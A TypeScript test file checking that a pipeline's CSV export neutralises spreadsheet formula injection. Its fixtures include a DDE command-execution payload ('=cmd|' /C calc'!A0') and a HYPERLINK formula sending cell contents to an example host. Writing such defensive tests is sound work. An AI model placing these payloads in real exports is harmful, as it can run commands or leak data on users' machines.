// The CSV export is opened in spreadsheets: no cell may start a formula.
import { describe, expect, it } from 'vitest';
import { makeConfig, runPipeline } from '../../pipeline/build.ts';
import { findingsCsv } from '../../pipeline/emit/index.ts';
import type { Graph } from '../../pipeline/link/index.ts';
import { caseFile, corpusWith } from '../helpers/corpus.ts';

/** A minimal RFC 4180 reader: rows of cells (quotes, doubled quotes, CRLF). */
function readCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const c = text[i];
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') (cell += '"'), i++;
      else if (c === '"') quoted = false;
      else cell += c;
    } else if (c === '"') quoted = true;
    else if (c === ',') row.push(cell), (cell = '');
    else if (c === '\r' && text[i + 1] === '\n') row.push(cell), rows.push(row), (row = []), (cell = ''), i++;
    else cell += c;
  }
  if (cell || row.length) row.push(cell), rows.push(row);
  return rows;
}

describe('findings.csv', () => {
  it('neutralises cells that start with =, +, -, @, tab or CR, and keeps the BOM and CRLF', async () => {
    const body = [
      '## Knelpunten',
      '',
      '- =HYPERLINK("http://example.com/?"&A1,"klik") {id: is; thema: lob}',
      '- +31 6 1234 5678 belt niemand terug. {id: plus; thema: lob}',
      '- -2+3 leerlingen stromen door. {id: min; thema: lob}',
      '- @SUM(1+1) is geen bevinding. {id: at; thema: lob}',
      '- ＝1+1 in brede tekens. {id: breed; thema: lob}',
      '- Gewone tekst met = erin. {id: gewoon; thema: lob}',
      '',
    ].join('\n');
    const dir = corpusWith({ 'cases/x.md': caseFile({ frontmatter: { titel: '"=cmd|\' /C calc\'!A0"', sectie: '"@Sectie"' }, body }) });
    const r = await runPipeline(makeConfig(dir, { sourcesDir: '.' }));
    expect(r.ok, JSON.stringify(r.problems.filter((p) => p.severity === 'error'))).toBe(true);
    const csv = findingsCsv(r.graph!);
    expect(csv.startsWith('\uFEFFid,type,case,note,title,province,themes,text,document,section,url\r\n')).toBe(true);
    const rows = readCsv(csv.slice(1));
    const byId = new Map(rows.slice(1).map((cells) => [cells[0], cells]));
    const text = (id: string) => byId.get(`x#${id}`)![7];
    expect(text('is')).toBe('\'=HYPERLINK("http://example.com/?"&A1,"klik")');
    expect(text('plus')).toBe("'+31 6 1234 5678 belt niemand terug.");
    expect(text('min')).toBe("'-2+3 leerlingen stromen door.");
    expect(text('at')).toBe("'@SUM(1+1) is geen bevinding.");
    expect(text('breed')).toBe("'＝1+1 in brede tekens.");
    expect(text('gewoon')).toBe('Gewone tekst met = erin.');
    expect(byId.get('x#is')![4]).toBe("'=cmd|' /C calc'!A0");
    expect(byId.get('x#is')![9]).toBe("'@Sectie");
    for (const cells of rows) for (const cell of cells) expect(cell, cell).not.toMatch(/^[=+\-@\t\r＝＋－＠]/);
  });

  it('neutralises a leading tab or CR too, wherever a value could come from', () => {
    const finding = (id: string, text: string) => ({ id, type: 'les', text, themes: [], owner: { collection: 'cases', id: 'x', title: '\r=1+1', province: 'limburg' }, source: { document: 'doc-a', section: '\t=1+1' }, supports: [], url: `/cases/x/#${id}` });
    const csv = findingsCsv({ findings: [finding('x#tab', '\t=1+1'), finding('x#cr', '\r@1')] } as unknown as Graph);
    const rows = readCsv(csv.slice(1)).slice(1);
    expect(rows.map((r) => [r[4], r[7], r[9]])).toEqual([
      ["'\r=1+1", "'\t=1+1", "'\t=1+1"],
      ["'\r=1+1", "'\r@1", "'\t=1+1"],
    ]);
  });
});
